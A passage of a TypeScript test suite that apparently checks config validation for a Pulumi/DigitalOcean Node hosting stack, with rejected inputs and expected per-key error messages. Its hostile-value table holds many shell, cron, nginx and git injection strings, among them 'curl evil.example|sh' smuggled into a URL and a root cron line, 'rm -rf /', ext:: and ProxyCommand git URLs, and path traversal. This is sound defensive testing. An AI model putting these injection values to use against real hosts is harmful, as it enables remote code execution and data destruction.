// Stack config validation: every problem reported at once, by key, without echoing secrets; a bad
// value (one DigitalOcean would refuse, or one that could escape into a shell, a cron line or a
// config file on the host) stops the program before a single resource is declared.
import * as pulumi from "@pulumi/pulumi";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { afterAll, afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import { ConfigError, DROPLET_REGIONS, NODE_END_OF_LIFE, parseConfig } from "../../components/config";
import { createStack } from "../../components/stack";
import { e2eConfig, type World } from "../e2e/lib/harness";
import { HOST_FROM_GUEST } from "../e2e/lib/pebble";
import { S3_ACCESS_KEY, S3_SECRET_KEY } from "../e2e/lib/s3";
import { POSTGRES, REDIS } from "../e2e/lib/service-images";
import { EXISTING_CONFIG, Run, runProgram, stackFileConfig, TEST_PUBLIC_KEY, withUserValues } from "./harness";

const names = { project: "nodehost", stack: "staging" };
const base = withUserValues(stackFileConfig("staging"));

// The provider variables would satisfy the provider-key checks: every test starts without them.
const PROVIDER_ENV = ["DIGITALOCEAN_TOKEN", "DIGITALOCEAN_ACCESS_TOKEN", "SPACES_ACCESS_KEY_ID", "SPACES_SECRET_ACCESS_KEY"];
beforeEach(() => {
  for (const v of PROVIDER_ENV) vi.stubEnv(v, "");
});
afterEach(() => {
  vi.unstubAllEnvs();
});

/** The staging stack file plus `over` (undefined deletes a key). */
function rawWith(over: Record<string, string | undefined>, from: Record<string, string> = base.raw): Record<string, string> {
  const raw: Record<string, string> = { ...from };
  for (const [k, v] of Object.entries(over)) {
    if (v === undefined) delete raw[k];
    else raw[k] = v;
  }
  return raw;
}

function problemsOf(raw: Record<string, string>, secretKeys: string[], n = names): string[] {
  try {
    parseConfig(raw, secretKeys, n);
  } catch (e) {
    expect(e).toBeInstanceOf(ConfigError);
    return (e as ConfigError).problems;
  }
  return [];
}

function problems(over: Record<string, string | undefined>, secretKeys = base.secretKeys): string[] {
  return problemsOf(rawWith(over), secretKeys);
}

/** A stack-file section with some keys changed. */
const section = (key: string) => (o: object) => JSON.stringify({ ...JSON.parse(base.raw[`nodehost:${key}`] ?? "{}"), ...o });
const droplet = section("droplet");
const ssh = section("ssh");
const tls = section("tls");
const backup = section("backup");
const alerts = section("alerts");
/** A logs section forwarding to `o` (over the receiver's defaults). */
const logs = (o: object) => JSON.stringify({ forward: { host: "logs.example.net", ...o } });

/** An OpenSSH private key whose header names `cipher` ("none": no passphrase), as ssh-keygen writes it. */
function opensshKey(cipher: string): string {
  const str = (s: string) => {
    const b = Buffer.from(s, "latin1");
    const len = Buffer.alloc(4);
    len.writeUInt32BE(b.length);
    return Buffer.concat([len, b]);
  };
  const kdf = cipher === "none" ? [str("none"), str("")] : [str("bcrypt"), str("\0\0\0\x10saltsaltsaltsalt\0\0\0\x18")];
  const body = Buffer.concat([Buffer.from("openssh-key-v1\0", "latin1"), str(cipher), ...kdf, Buffer.from([0, 0, 0, 1]), str("key-blob")]);
  return `-----BEGIN OPENSSH PRIVATE KEY-----\n${body.toString("base64").match(/.{1,70}/g)!.join("\n")}\n-----END OPENSSH PRIVATE KEY-----\n`;
}

/** Two self-signed test CA certificates (EC P-256), like Pebble's listener CA + issuer root. */
const CA_PEM_A = `-----BEGIN CERTIFICATE-----
MIIBkDCCATWgAwIBAgIUTC7WjFprct1M8HZyh33dMADvOSkwCgYIKoZIzj0EAwIw
HTEbMBkGA1UEAwwSbm9kZWhvc3QgdGVzdCBDQSBhMB4XDTI2MTEyMzE0NTIyOFoX
DTM2MTEyMDE0NTIyOFowHTEbMBkGA1UEAwwSbm9kZWhvc3QgdGVzdCBDQSBhMFkw
EwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEHMliYyURL1Cpy5JmLTU5HepKJ0GFtk+f
X+kvMWOfTvQIXYoI8L68UdhoJnEj+u8WVbR6l1vvkikVRLx33pvBFKNTMFEwHQYD
VR0OBBYEFFZeacQQYkGqbLSrX52JwgI3YejWMB8GA1UdIwQYMBaAFFZeacQQYkGq
bLSrX52JwgI3YejWMA8GA1UdEwEB/wQFMAMBAf8wCgYIKoZIzj0EAwIDSQAwRgIh
APcFqZ6ffAeAK29cnpLHqYtFMONghi/rADV0s1yIU0+qAiEAjaTtQ9c9YF2XY1J7
lsYhSOEgRv1keHjHb08K3yI87eI=
-----END CERTIFICATE-----
`;
const CA_PEM_TWO = `${CA_PEM_A.trim()}\n${CA_PEM_A.trim()}\n`;

describe("bad config gives one error per bad key, naming it", () => {
  test.each([
    ["a misspelt top-level key", { "nodehost:domian": "example.com" }, ["nodehost:domian: unknown key (misspelt?)"]],
    ["a misspelt nested key", { "nodehost:droplet": droplet({ sise: "s-1vcpu-1gb" }) }, ["nodehost:droplet.sise: unknown key (misspelt?)"]],
    ["a wrong type", { "nodehost:dns": JSON.stringify({ ttl: "ten" }) }, ["nodehost:dns.ttl: must be a number (got a string)"]],
    ["a string for a boolean", { "nodehost:protect": "yes" }, ["nodehost:protect: must be a boolean (got a string)"]],
    [
      "an invalid region",
      { "nodehost:droplet": droplet({ region: "xx9" }) },
      ['nodehost:droplet.region: Invalid option: expected one of "nyc1"|"nyc2"|"nyc3"|"sfo2"|"sfo3"|"ams3"|"sgp1"|"lon1"|"fra1"|"tor1"|"blr1"|"syd1"|"atl1"|"ric1"'],
    ],
    ["an invalid size", { "nodehost:droplet": droplet({ size: "huge" }) }, ["nodehost:droplet.size: must be a DigitalOcean size slug such as s-2vcpu-4gb (doctl compute size list)"]],
    ["an image that is not apt-based", { "nodehost:droplet": droplet({ image: "fedora-40-x64" }) }, ["nodehost:droplet.image: must be an apt-based image slug such as debian-13-x64 or ubuntu-24-04-x64"]],
    ["an invalid domain", { "nodehost:domain": "Example..com" }, ["nodehost:domain: must be a lower-case DNS name such as example.com"]],
    ["a missing domain", { "nodehost:domain": undefined }, ["nodehost:domain: is required"]],
    ["a bad CIDR in the SSH allow-list", { "nodehost:ssh": ssh({ allowFrom: ["office"] }) }, ["nodehost:ssh.allowFrom[0]: must be an IPv4 or IPv6 address or CIDR such as 203.0.113.7/32"]],
    ["a missing SSH private key", { "nodehost:sshPrivateKey": undefined }, ["nodehost:sshPrivateKey: is required"]],
    ["a missing DigitalOcean token", { "digitalocean:token": undefined }, ["digitalocean:token: is required when hostMode is digitalocean (or set DIGITALOCEAN_TOKEN or DIGITALOCEAN_ACCESS_TOKEN)"]],
    ["a bad cron schedule", { "nodehost:backup": JSON.stringify({ schedule: "every 4 hours" }) }, ["nodehost:backup.schedule: must be a five-field cron schedule such as '0 */4 * * *'"]],
    ["no local copy at all", { "nodehost:backup": JSON.stringify({ localCopies: 0 }) }, ["nodehost:backup.localCopies: Too small: expected number to be >=1"]],
    ["allowEmptyStart as a string", { "nodehost:backup": JSON.stringify({ allowEmptyStart: "yes" }) }, ["nodehost:backup.allowEmptyStart: must be a boolean (got a string)"]],
    ["existing mode without its host", { "nodehost:hostMode": "existing", "nodehost:backup": JSON.stringify({ endpoint: "https://127.0.0.1:9000", bucketName: "b-1" }), "nodehost:backupAccessKey": "k", "nodehost:backupSecretKey": "s" }, ["nodehost:existingHost: is required when hostMode is existing"]],
  ])("%s", (_name, over, expected) => {
    expect(problems(over, [...base.secretKeys, "nodehost:backupAccessKey", "nodehost:backupSecretKey"])).toEqual(expected);
  });

  test("several problems at once are all reported, in one error", () => {
    const got = problems({
      "nodehost:domian": "x",
      "nodehost:domain": undefined,
      "nodehost:droplet": droplet({ region: "mars1", size: "huge" }),
      "nodehost:sshPrivateKey": undefined,
      "digitalocean:token": undefined,
    });
    expect(got).toEqual([
      "nodehost:domain: is required",
      "nodehost:droplet.size: must be a DigitalOcean size slug such as s-2vcpu-4gb (doctl compute size list)",
      expect.stringMatching(/^nodehost:droplet\.region: Invalid option/),
      "nodehost:sshPrivateKey: is required",
      "nodehost:domian: unknown key (misspelt?)",
      "digitalocean:token: is required when hostMode is digitalocean (or set DIGITALOCEAN_TOKEN or DIGITALOCEAN_ACCESS_TOKEN)",
    ]);
  });

  test("a secret set in plain text is refused, and the message never contains its value", () => {
    const e = (() => {
      try {
        parseConfig({ ...base.raw, "nodehost:basicAuthPassword": "hunter2-plaintext" }, base.secretKeys, names);
      } catch (err) {
        return err as Error;
      }
      throw new Error("expected a ConfigError");
    })();
    expect(e.message).toContain("nodehost:basicAuthPassword: must be set as a secret");
    expect(e.message).not.toContain("hunter2-plaintext");
  });

  test("an invalid secret is named but its value is not echoed", () => {
    const secretKeys = [...base.secretKeys, "nodehost:basicAuthPassword"];
    const got = problems({ "nodehost:basicAuthPassword": "short-pw" }, secretKeys);
    expect(got).toEqual(["nodehost:basicAuthPassword: must be at least 12 characters"]);
    expect(got.join("\n")).not.toContain("short-pw");
  });
});

// --- Values DigitalOcean would refuse, and values that would escape on the host -------------------

const SIZE = "must be a DigitalOcean size slug such as s-2vcpu-4gb (doctl compute size list)";
const CIDR = "must be an IPv4 or IPv6 address or CIDR such as 203.0.113.7/32";
const VPC = "must be a private (RFC 1918) IPv4 range from /16 to /28 such as 10.10.0.0/20";
const STACK_NAME = (name: string) =>
  `stack: "${name}" must be lower-case letters, digits and dashes, start with a letter and be at most 48 characters: it names the droplet, volume and bucket (rename the stack: pulumi stack rename)`;
const HTTPS = "must be an https:// URL";
const UNSAFE = "must not contain quotes, backticks, '$', '\\' or whitespace";
const ENDPOINT = "must be an https:// URL (http:// only to a loopback or private address)";
const CRON = "must be a five-field cron schedule such as '0 */4 * * *'";
const PREFIX = "must be letters, digits, '.', '_', '-' and '/' (no '..', no leading '/')";
const IMAGE = "must be a Docker image reference such as postgres:16 or registry.example.com:5000/postgres:16";
const PRELOAD = "must be an absolute path of letters, digits, '.', '_', '-' and '/' (no '..')";
const GIT_REF = "must be a branch, tag or commit such as main or v1.2.0";
const WORKER = "must be a path inside the app such as worker.js (letters, digits, '.', '_', '-', '/'; no '..') or an npm script name";
const GIT_URL = "must be an https:// or SSH (git@host:path or ssh://...) git URL";
const PM2 = "must be a version such as 6, 6.0 or 6.0.1 (kept while the installed pm2 starts with it)";
const SLACK = "must be a Slack channel name such as #ops";
const CA_PEM = "must be PEM certificates only (-----BEGIN CERTIFICATE----- ... -----END CERTIFICATE-----)";
const ADDRESS = "must be a host name or an IPv4 or IPv6 address";
const DEVICE = "must be a /dev path, best a /dev/disk/by-id one";
const PEER = "must be a DNS name such as logs.example.com (a leading '*.' allowed)";
const TAG = "must be letters, digits, '_', ':' and '-' (a DigitalOcean tag name)";
const PASSPHRASE = "must not be passphrase-protected: pulumi-command cannot prompt for it (make a dedicated deploy key without a passphrase)";
const KEY_LINE = "must be an OpenSSH public key line (ssh-ed25519 AAAA... comment)";
const TOKEN_CHARS = "must not contain quotes, backticks, '$' or '\\'";

const existing = EXISTING_CONFIG;
const existingHost = (o: object) =>
  JSON.stringify({ ...JSON.parse(existing.raw["nodehost:existingHost"]), ...o });
const existingBackup = (o: object) => JSON.stringify({ ...JSON.parse(existing.raw["nodehost:backup"]), ...o });

interface Bad {
  over: Record<string, string | undefined>;
  expected: string[];
  /** Start from the existing-mode config instead of the staging stack file. */
  existingMode?: boolean;
  names?: { project: string; stack: string };
  extraSecrets?: string[];
}

const PROC_FILE = "must be a path inside the app such as server/index.ts (letters, digits, '.', '_', '-', '/'; no '..')";
const NPM_SCRIPT = "must be an npm script name such as start or start:worker (letters, digits, ':', '.', '_', '-')";
const SITE_PATH = (what: string) => `must be ${what} such as /api/health: '/' then letters, digits, '.', '_', '~', '-' and '/' (no '..' or '//')`;
const BODY = "must be a size such as 10m, 512k or 65536 (bytes)";
const WEB = { name: "web", file: "server.js", web: true };
const procs = (...p: object[]) => ({ "nodehost:app": JSON.stringify({ processes: p }) });
const routes = (...r: object[]) => ({ "nodehost:nginx": JSON.stringify({ routes: r }) });

const GIT_SSH = { source: "git", gitUrl: "git@github.com:acme/app.git" };
const HOSTILE: Record<string, Bad> = {
  "an SSH git URL without a deploy key or the server's keys": {
    over: { "nodehost:app": JSON.stringify(GIT_SSH) },
    expected: [
      "nodehost:appGitDeployKey: is required for an SSH app.gitUrl: a deploy key of this stack's with read access (pulumi config set --secret nodehost:appGitDeployKey < key)",
      "nodehost:app.gitHostKeys: is required for an SSH app.gitUrl: the git server's keys (ssh-keyscan -t ed25519 HOST, checked against its published fingerprints)",
    ],
  },
  "a deploy key for an https:// git URL": {
    over: { "nodehost:app": JSON.stringify({ source: "git", gitUrl: "https://github.com/acme/app.git" }), "nodehost:appGitDeployKey": opensshKey("none") },
    extraSecrets: ["nodehost:appGitDeployKey"],
    expected: ["nodehost:appGitDeployKey: is for an SSH app.gitUrl only (an https:// one is fetched without a key)"],
  },
  "a passphrase-protected deploy key": {
    over: { "nodehost:app": JSON.stringify({ ...GIT_SSH, gitHostKeys: [TEST_PUBLIC_KEY] }), "nodehost:appGitDeployKey": opensshKey("aes256-ctr") },
    extraSecrets: ["nodehost:appGitDeployKey"],
    expected: [`nodehost:appGitDeployKey: ${PASSPHRASE}`],
  },
  "a deploy key in plain text": {
    over: { "nodehost:app": JSON.stringify({ ...GIT_SSH, gitHostKeys: [TEST_PUBLIC_KEY] }), "nodehost:appGitDeployKey": opensshKey("none") },
    expected: ["nodehost:appGitDeployKey: must be set as a secret (pulumi config set --secret nodehost:appGitDeployKey ...)"],
  },
  "a git host key with a command after a newline": {
    over: { "nodehost:app": JSON.stringify({ gitHostKeys: [`${TEST_PUBLIC_KEY}\n* ssh-ed25519 AAAA`] }) },
    expected: ["nodehost:app.gitHostKeys[0]: must be an OpenSSH public key line (ssh-ed25519 AAAA... comment)"],
  },
  "a process file with a command after it": { over: procs({ ...WEB, file: "server.js; reboot" }), expected: [`nodehost:app.processes[0].file: ${PROC_FILE}`] },
  "a process file outside the release": { over: procs({ ...WEB, file: "../shared/env.json" }), expected: [`nodehost:app.processes[0].file: ${PROC_FILE}`] },
  "a process file that is a node option": { over: procs({ ...WEB, file: "--require=/tmp/x.js" }), expected: [`nodehost:app.processes[0].file: ${PROC_FILE}`] },
  "a process npm script with $(...)": { over: procs({ name: "web", npm: "start$(id)", web: true }), expected: [`nodehost:app.processes[0].npm: ${NPM_SCRIPT}`] },
  "a process npm script that is an npm option": { over: procs({ name: "web", npm: "--prefix=/etc", web: true }), expected: [`nodehost:app.processes[0].npm: ${NPM_SCRIPT}`] },
  "a process name with a quote": { over: procs({ ...WEB, name: "web'x" }), expected: ["nodehost:app.processes[0].name: must be a short lower-case name such as web or worker"] },
  "a process with both npm and file": { over: procs({ ...WEB, npm: "start" }), expected: ["nodehost:app.processes[0].npm: set exactly one of npm (a script) and file"] },
  "a process with neither npm nor file": { over: procs({ name: "web", web: true }), expected: ["nodehost:app.processes[0].npm: set exactly one of npm (a script) and file"] },
  "processes without a web process": { over: procs({ name: "jobs", npm: "jobs" }), expected: ["nodehost:app.processes: has no web process: set web: true on the one that serves PORT"] },
  "two web processes": { over: procs(WEB, { ...WEB, name: "api" }), expected: ["nodehost:app.processes[1].web: is true on process 0 already: one web process serves PORT"] },
  "two processes of one name": { over: procs(WEB, { name: "web", npm: "jobs" }), expected: ["nodehost:app.processes[1].name: is the name of another process"] },
  "tsx for an npm script": { over: procs({ name: "web", npm: "start", interpreter: "tsx", web: true }), expected: ["nodehost:app.processes[0].interpreter: applies to a file only (an npm script says how it runs)"] },
  "cluster mode for an npm script": { over: procs({ name: "web", npm: "start", mode: "cluster", web: true }), expected: ["nodehost:app.processes[0].mode: cluster needs a file (PM2 clusters a node file, not an npm script)"] },
  "two forked web instances on one port": { over: procs({ ...WEB, instances: 2 }), expected: ["nodehost:app.processes[0].instances: more than 1 web instance needs mode: cluster (forked copies would each bind PORT)"] },
  "app.worker beside app.processes": { over: { "nodehost:app": JSON.stringify({ worker: "worker.js", processes: [WEB] }) }, expected: ["nodehost:app.worker: cannot be set with app.processes: list the worker there instead"] },
  "a health path with a query and a quote": { over: { "nodehost:app": JSON.stringify({ healthPath: "/health?x='1'" }) }, expected: [`nodehost:app.healthPath: ${SITE_PATH("a path")}`] },
  "a health path with '..'": { over: { "nodehost:app": JSON.stringify({ healthPath: "/api/../etc/passwd" }) }, expected: [`nodehost:app.healthPath: ${SITE_PATH("a path")}`] },
  "a health path that is a URL": { over: { "nodehost:app": JSON.stringify({ healthPath: "http://evil.example/health" }) }, expected: [`nodehost:app.healthPath: ${SITE_PATH("a path")}`] },
  "a health path of / (it would open the UI without basic auth)": { over: { "nodehost:app": JSON.stringify({ healthPath: "/" }) }, expected: ["nodehost:app.healthPath: must not be /, under /.well-known/ or /healthz/backup (the site serves those itself; / would open the UI without basic auth)"] },
  "a memory limit with a command": { over: { "nodehost:app": JSON.stringify({ memoryLimit: "512M && reboot" }) }, expected: ["nodehost:app.memoryLimit: must be a size such as 512M or 2G"] },
  "a build variable with a bad name": { over: { "nodehost:app": JSON.stringify({ buildEnv: { "A;B": "x" } }) }, expected: ["nodehost:app.buildEnv.A;B: must be a variable name: letters, digits and '_', not starting with a digit"] },
  "a route with a directive in its path": { over: routes({ path: "/ws; return 200" }), expected: [`nodehost:nginx.routes[0].path: ${SITE_PATH("a path prefix")}`] },
  "a route with a newline": { over: routes({ path: "/ws\n}" }), expected: [`nodehost:nginx.routes[0].path: ${SITE_PATH("a path prefix")}`] },
  "a route for the whole site": { over: routes({ path: "/" }), expected: ["nodehost:nginx.routes[0].path: must not be /, /api/ or under /.well-known/ (the site serves those itself)"] },
  "a route over the ACME challenges": { over: routes({ path: "/.well-known/acme-challenge/" }), expected: ["nodehost:nginx.routes[0].path: must not be /, /api/ or under /.well-known/ (the site serves those itself)"] },
  "a route listed twice": { over: routes({ path: "/ws/" }, { path: "/ws/", websocket: true }), expected: ["nodehost:nginx.routes[1].path: is listed twice"] },
  "a route to the app's second slot": { over: routes({ path: "/ws/", port: 3082 }), expected: ["nodehost:nginx.routes[0].port: must not be one of the app's two slots (3081, 3082), PostgreSQL's or Redis's"] },
  "a route to a privileged port": { over: routes({ path: "/ws/", port: 22 }), expected: ["nodehost:nginx.routes[0].port: Too small: expected number to be >=1024"] },
  "a route idle timeout of 0": { over: routes({ path: "/ws/", idleTimeoutSeconds: 0 }), expected: ["nodehost:nginx.routes[0].idleTimeoutSeconds: Too small: expected number to be >=1"] },
  "a body size with a directive": { over: { "nodehost:nginx": JSON.stringify({ maxBodySize: "10m; allow all" }) }, expected: [`nodehost:nginx.maxBodySize: ${BODY}`] },
  "a route body size in gigabytes": { over: routes({ path: "/upload/", maxBodySize: "1g" }), expected: [`nodehost:nginx.routes[0].maxBodySize: ${BODY}`] },
  "a region that no longer takes droplets (sfo1)": {
    over: { "nodehost:droplet": droplet({ region: "sfo1" }) },
    expected: [`nodehost:droplet.region: Invalid option: expected one of ${DROPLET_REGIONS.map((r) => `"${r}"`).join("|")}`],
  },
  "a reboot time with a command after it": {
    over: { "nodehost:updates": JSON.stringify({ rebootAt: "04:30; reboot" }) },
    expected: ['nodehost:updates.rebootAt: must be a time such as "04:30" (host clock, UTC on a droplet), or "never"'],
  },
  "a runtime update time with a cron line in it": {
    over: { "nodehost:updates": JSON.stringify({ runtimeAt: "04:00\n* * * * * root id" }) },
    expected: ['nodehost:updates.runtimeAt: must be a time such as "04:00" (host clock, UTC on a droplet), or "never"'],
  },
  "a runtime update time that is a systemd calendar expression": {
    over: { "nodehost:updates": JSON.stringify({ runtimeAt: "*-*-* 04:00" }) },
    expected: ['nodehost:updates.runtimeAt: must be a time such as "04:00" (host clock, UTC on a droplet), or "never"'],
  },
  "an image refresh time with a cron line in it": {
    over: { "nodehost:updates": JSON.stringify({ imagesAt: "03:30\n* * * * * root id" }) },
    expected: ['nodehost:updates.imagesAt: must be a time such as "03:30" (host clock, UTC on a droplet), or "never"'],
  },
  "a reboot time past 23:59": { over: { "nodehost:updates": JSON.stringify({ rebootAt: "24:00" }) }, expected: ['nodehost:updates.rebootAt: must be a time such as "04:30" (host clock, UTC on a droplet), or "never"'] },
  "an extra SSH user with a space and a second name": {
    over: { "nodehost:ssh": ssh({ allowFrom: ["203.0.113.10/32"], extraUsers: ["alice bob"] }) },
    expected: ["nodehost:ssh.extraUsers[0]: must be a Linux user name such as alice"],
  },
  "a size without memory (s-2vcpu)": { over: { "nodehost:droplet": droplet({ size: "s-2vcpu" }) }, expected: [`nodehost:droplet.size: ${SIZE}`] },
  "an upper-case size": { over: { "nodehost:droplet": droplet({ size: "S-2VCPU-4GB" }) }, expected: [`nodehost:droplet.size: ${SIZE}`] },
  "a size with a shell command": { over: { "nodehost:droplet": droplet({ size: "s-2vcpu-4gb;rm" }) }, expected: [`nodehost:droplet.size: ${SIZE}`] },
  "an IPv4 octet over 255": { over: { "nodehost:ssh": ssh({ allowFrom: ["300.1.1.1/32"] }) }, expected: [`nodehost:ssh.allowFrom[0]: ${CIDR}`] },
  "an IPv4 prefix over 32": { over: { "nodehost:ssh": ssh({ allowFrom: ["10.0.0.0/33"] }) }, expected: [`nodehost:ssh.allowFrom[0]: ${CIDR}`] },
  "a CIDR with an empty prefix": { over: { "nodehost:ssh": ssh({ allowFrom: ["203.0.113.10/32", "1.2.3.4/"] }) }, expected: [`nodehost:ssh.allowFrom[1]: ${CIDR}`] },
  "an IPv6 prefix over 128": { over: { "nodehost:nginx": JSON.stringify({ allowIps: ["::1/129"] }) }, expected: [`nodehost:nginx.allowIps[0]: ${CIDR}`] },
  "an nginx allow entry with a quote and a directive": {
    over: { "nodehost:nginx": JSON.stringify({ allowIps: ["1.2.3.4'; deny all; #"] }) },
    expected: [`nodehost:nginx.allowIps[0]: ${CIDR}`],
  },
  "a public VPC range": { over: { "nodehost:droplet": droplet({ vpcIpRange: "8.8.8.0/24" }) }, expected: [`nodehost:droplet.vpcIpRange: ${VPC}`] },
  "a VPC range larger than /16": { over: { "nodehost:droplet": droplet({ vpcIpRange: "10.0.0.0/8" }) }, expected: [`nodehost:droplet.vpcIpRange: ${VPC}`] },
  "a VPC range smaller than /28": { over: { "nodehost:droplet": droplet({ vpcIpRange: "192.168.1.0/29" }) }, expected: [`nodehost:droplet.vpcIpRange: ${VPC}`] },
  "a VPC range with host bits set": { over: { "nodehost:droplet": droplet({ vpcIpRange: "10.10.0.1/20" }) }, expected: [`nodehost:droplet.vpcIpRange: ${VPC}`] },
  "a stack name with upper case and '_'": {
    over: {},
    names: { project: "nodehost", stack: "My_Stack" },
    expected: [STACK_NAME("nodehost-My_Stack")],
  },
  "a stack name with a dot": { over: {}, names: { project: "nodehost", stack: "prod.eu" }, expected: [STACK_NAME("nodehost-prod.eu")] },
  "a stack name too long for the bucket": {
    over: {},
    names: { project: "nodehost", stack: "s".repeat(60) },
    expected: [STACK_NAME(`nodehost-${"s".repeat(60)}`)],
  },
  "an http:// ACME server": {
    over: { "nodehost:tls": tls({ acmeServer: "http://acme.example.com/directory" }) },
    expected: [`nodehost:tls.acmeServer: ${HTTPS}`],
  },
  "an http:// npm registry": { over: { "nodehost:app": JSON.stringify({ npmRegistry: "http://registry.npmjs.org" }) }, expected: [`nodehost:app.npmRegistry: ${HTTPS}`] },
  "an npm registry with $(...)": {
    over: { "nodehost:app": JSON.stringify({ npmRegistry: "https://registry.npmjs.org/$(curl evil.example|sh)" }) },
    expected: [`nodehost:app.npmRegistry: ${UNSAFE}`],
  },
  "an http:// Slack webhook": {
    over: { "nodehost:slackWebhookUrl": "http://hooks.slack.com/services/T0/B0/x", "nodehost:alerts": alerts({ slackChannel: "#ops" }) },
    extraSecrets: ["nodehost:slackWebhookUrl"],
    expected: [`nodehost:slackWebhookUrl: ${HTTPS}`],
  },
  "an http:// backup endpoint on the internet": {
    over: { "nodehost:backup": existingBackup({ endpoint: "http://s3.example.net" }) },
    existingMode: true,
    expected: [`nodehost:backup.endpoint: ${ENDPOINT}`],
  },
  "an http:// backup endpoint on a public address": {
    over: { "nodehost:backup": existingBackup({ endpoint: "http://8.8.8.8:9000" }) },
    existingMode: true,
    expected: [`nodehost:backup.endpoint: ${ENDPOINT}`],
  },
  "an http:// endpoint whose name only starts like a private address": {
    over: { "nodehost:backup": existingBackup({ endpoint: "http://10.0.2.2.evil.example:9000" }) },
    existingMode: true,
    expected: [`nodehost:backup.endpoint: ${ENDPOINT}`],
  },
  "an http:// backup endpoint on a public IPv6 address": {
    over: { "nodehost:backup": existingBackup({ endpoint: "http://[2001:db8::1]:9000" }) },
    existingMode: true,
    expected: [`nodehost:backup.endpoint: ${ENDPOINT}`],
  },
  "a backup endpoint with a quote and backticks": {
    over: { "nodehost:backup": existingBackup({ endpoint: "https://s3.example.net/'`reboot`'" }) },
    existingMode: true,
    expected: [`nodehost:backup.endpoint: ${UNSAFE}`],
  },
  "a backup schedule with a newline (a second root cron line)": {
    over: { "nodehost:backup": backup({ schedule: "0 */4 * * *\n* * * * * root curl evil.example|sh" }) },
    expected: [`nodehost:backup.schedule: ${CRON}`],
  },
  "a backup schedule with $(...)": { over: { "nodehost:backup": backup({ schedule: "0 */4 * * $(reboot)" }) }, expected: [`nodehost:backup.schedule: ${CRON}`] },
  "a drill schedule with a newline (a second root cron line)": {
    over: { "nodehost:backup": backup({ drillSchedule: "45 2 * * *\n* * * * * root id" }) },
    expected: [`nodehost:backup.drillSchedule: ${CRON}`],
  },
  "a backup schedule with a sixth field": { over: { "nodehost:backup": backup({ schedule: "0 */4 * * * root" }) }, expected: [`nodehost:backup.schedule: ${CRON}`] },
  "a backup prefix with a quote and $(...)": { over: { "nodehost:backup": backup({ prefix: "x'$(id>/tmp/p)'" }) }, expected: [`nodehost:backup.prefix: ${PREFIX}`] },
  "a backup prefix with '..'": { over: { "nodehost:backup": backup({ prefix: "e2e/../other" }) }, expected: [`nodehost:backup.prefix: ${PREFIX}`] },
  "a backup prefix with a leading '/'": { over: { "nodehost:backup": backup({ prefix: "/e2e" }) }, expected: [`nodehost:backup.prefix: ${PREFIX}`] },
  "a Postgres image with a command after it": { over: { "nodehost:images": JSON.stringify({ postgres: "postgres:16; rm -rf /" }) }, expected: [`nodehost:images.postgres: ${IMAGE}`] },
  "a Redis image with backticks": { over: { "nodehost:images": JSON.stringify({ redis: "redis:7`id`" }) }, expected: [`nodehost:images.redis: ${IMAGE}`] },
  "an upper-case image name": { over: { "nodehost:images": JSON.stringify({ redis: "Redis:7" }) }, expected: [`nodehost:images.redis: ${IMAGE}`] },
  "a preload dir escaping with '..'": { over: { "nodehost:images": JSON.stringify({ preloadDir: "/var/cache/../../etc" }) }, expected: [`nodehost:images.preloadDir: ${PRELOAD}`] },
  "a relative preload dir": { over: { "nodehost:images": JSON.stringify({ preloadDir: "images" }) }, expected: [`nodehost:images.preloadDir: ${PRELOAD}`] },
  "a preload dir with $(...)": { over: { "nodehost:images": JSON.stringify({ preloadDir: "/tmp/$(reboot)" }) }, expected: [`nodehost:images.preloadDir: ${PRELOAD}`] },
  "a git ref that is an option": { over: { "nodehost:app": JSON.stringify({ gitRef: "--upload-pack=touch /tmp/p" }) }, expected: [`nodehost:app.gitRef: ${GIT_REF}`] },
  "a git ref with '..'": { over: { "nodehost:app": JSON.stringify({ gitRef: "main..evil" }) }, expected: [`nodehost:app.gitRef: ${GIT_REF}`] },
  "a git ref ending in .lock": { over: { "nodehost:app": JSON.stringify({ gitRef: "release.lock" }) }, expected: [`nodehost:app.gitRef: ${GIT_REF}`] },
  "an absolute worker path": { over: { "nodehost:app": JSON.stringify({ worker: "/etc/passwd" }) }, expected: [`nodehost:app.worker: ${WORKER}`] },
  "a worker outside the release": { over: { "nodehost:app": JSON.stringify({ worker: "../../shared/.env" }) }, expected: [`nodehost:app.worker: ${WORKER}`] },
  "a worker that is a node option": { over: { "nodehost:app": JSON.stringify({ worker: "--require=/tmp/x.js" }) }, expected: [`nodehost:app.worker: ${WORKER}`] },
  "a worker with a shell command": { over: { "nodehost:app": JSON.stringify({ worker: "worker.js; reboot" }) }, expected: [`nodehost:app.worker: ${WORKER}`] },
  "a git URL with a double quote": {
    over: { "nodehost:app": JSON.stringify({ source: "git", gitUrl: 'https://example.com/app.git"; reboot; "' }) },
    expected: [`nodehost:app.gitUrl: ${UNSAFE}`],
  },
  "a git URL over plain http://": { over: { "nodehost:app": JSON.stringify({ gitUrl: "http://example.com/app.git" }) }, expected: [`nodehost:app.gitUrl: ${GIT_URL}`] },
  "a git URL with an ext:: transport": { over: { "nodehost:app": JSON.stringify({ gitUrl: "ext::sh%-c%touch%/tmp/p" }) }, expected: [`nodehost:app.gitUrl: ${GIT_URL}`] },
  "an ssh:// git URL whose host is an ssh option": {
    over: { "nodehost:app": JSON.stringify({ gitUrl: "ssh://-oProxyCommand=touch%20p/app.git" }) },
    expected: [`nodehost:app.gitUrl: ${GIT_URL}`],
  },
  "a pm2 version that is a command": { over: { "nodehost:app": JSON.stringify({ pm2Version: "6 && reboot" }) }, expected: [`nodehost:app.pm2Version: ${PM2}`] },
  "no alert recipient at all (a stack with no alert)": {
    over: { "nodehost:alerts": JSON.stringify({ emails: [] }) },
    expected: ["nodehost:alerts.emails: is empty and no alerts.slackChannel is set: the stack would have no alert at all (add an address, or set alerts.none: true to run without alerts)"],
  },
  "alerts.none beside a recipient": {
    over: { "nodehost:alerts": JSON.stringify({ emails: ["ops@example.com"], none: true }) },
    expected: ["nodehost:alerts.none: cannot be true while alerts.emails or alerts.slackChannel name a recipient: choose one"],
  },
  "a pm2 dist-tag": { over: { "nodehost:app": JSON.stringify({ pm2Version: "latest" }) }, expected: [`nodehost:app.pm2Version: ${PM2}`] },
  "an app port whose next port is PostgreSQL's": { over: { "nodehost:app": JSON.stringify({ port: 5431 }) }, expected: ["nodehost:app.port: must leave 5432 and 6379 free: releases use this port and the next"] },
  "the last port (releases need the next one too)": { over: { "nodehost:app": JSON.stringify({ port: 65535 }) }, expected: ["nodehost:app.port: Too big: expected number to be <=65534"] },
